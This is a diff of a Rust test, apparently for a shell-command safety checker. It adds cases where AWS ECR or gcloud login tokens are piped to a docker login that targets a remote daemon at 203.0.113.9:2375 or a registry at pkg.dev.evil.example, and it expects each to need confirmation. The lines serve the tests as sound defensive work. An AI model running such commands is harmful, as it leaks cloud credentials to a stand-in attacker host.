@@ -174,6 +174,14 @@ fn a_login_to_another_registry_or_through_another_stage_keeps_the_read() {
             "gcloud auth print-access-token | docker login -u oauth2accesstoken --password-stdin pkg.dev.evil.example",
             Confirm,
         ),
+        (
+            "aws ecr get-login-password | DOCKER_HOST=tcp://203.0.113.9:2375 docker login -u AWS --password-stdin 123456789012.dkr.ecr.eu-west-1.amazonaws.com",
+            Confirm,
+        ),
+        (
+            "aws ecr get-login-password | docker -H tcp://203.0.113.9:2375 login -u AWS --password-stdin 123456789012.dkr.ecr.eu-west-1.amazonaws.com",
+            Confirm,
+        ),
     ]);
 }
 
